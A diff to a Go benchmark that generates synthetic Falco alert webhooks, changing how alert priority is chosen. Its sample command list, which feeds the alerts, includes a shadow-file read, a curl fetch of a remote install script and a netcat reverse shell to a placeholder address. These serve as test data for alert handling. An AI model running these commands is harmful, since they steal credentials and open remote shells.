@@ -50,13 +50,14 @@ var benchPriorities = []string{"Critical", "Error", "Warning", "Warning", "Notic
 // body is one falcosidekick webhook request (one event, fresh uuid), shaped like a real Falco 0.44 alert.
 func (s *benchScenario) body(i int, t time.Time) []byte {
 	r := s.rng
-	rule := s.rules[min(int(r.ExpFloat64()*8), len(s.rules)-1)]
+	ri := min(int(r.ExpFloat64()*8), len(s.rules)-1)
+	rule := s.rules[ri]
 	pi := r.IntN(len(s.pods))
 	pod, ns := s.pods[pi], s.namespaces[pi%len(s.namespaces)]
 	host := s.hosts[pi%len(s.hosts)]
 	cmd := []string{"bash -il", "cat /etc/shadow", "curl -s http://198.51.100.7/install.sh", "nc -e /bin/sh 203.0.113.5 4444", "python3 -c import pty"}[r.IntN(5)]
 	b, _ := json.Marshal(map[string]any{
-		"uuid": fmt.Sprintf("%08x-bench-4000-8000-%012d", r.Uint32(), i), "rule": rule, "priority": benchPriorities[r.IntN(len(benchPriorities))],
+		"uuid": fmt.Sprintf("%08x-bench-4000-8000-%012d", r.Uint32(), i), "rule": rule, "priority": benchPriorities[ri%len(benchPriorities)], // a Falco rule has one priority
 		"time": t.Format(time.RFC3339Nano), "source": "syscall", "hostname": host,
 		"tags":   []string{"container", "maturity_stable", []string{"shell", "filesystem", "network", "process"}[i%4], fmt.Sprintf("T10%02d", i%40)},
 		"output": fmt.Sprintf("%s | evt_type=execve user=root user_uid=0 process=%s parent=containerd-shim command=%s container_id=%012x container_name=app container_image_repository=ghcr.io/acme/%s k8s_pod_name=%s k8s_ns_name=%s", t.Format("15:04:05.000000000")+": "+rule, strings.Fields(cmd)[0], cmd, r.Uint64()&0xffffffffffff, ns, pod, ns),
